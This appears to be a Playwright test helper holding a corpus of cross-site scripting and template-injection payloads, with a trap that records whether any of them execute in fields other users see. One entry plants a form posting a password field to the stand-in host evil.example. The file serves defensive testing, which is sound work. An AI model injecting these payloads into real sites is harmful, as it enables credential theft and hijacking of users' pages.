import type { Page } from '@playwright/test';

/**
 * Markup for fields that other users see while they type passwords. Each calls `pwned()` if it runs, which `TRAP`
 * records.
 */
export const CORPUS = [
  '<script>pwned()</script>',
  '</title><script>pwned()</script>',
  '"><img src=x onerror=pwned()>',
  "'><svg/onload=pwned()>",
  '</main></body><iframe srcdoc="<script>parent.pwned()</script>">',
  '<a href="javascript:pwned()">Continue</a>',
  '<style>*{display:none}</style>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<form action=//evil.example><input name=password></form>',
  '{{constructor.constructor("pwned()")()}}',
  `\${pwned()}\`;pwned();//`,
  '&lt;img src=x onerror=pwned()&gt; &amp; {0}',
] as const;

export const TRAP = `window.ran = []; window.pwned = () => { ran.push(location.href); };`;

/** Where markup ran, in pages opened with the {@link TRAP} set. */
export function executionsOn(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { ran: string[] }).ran);
}
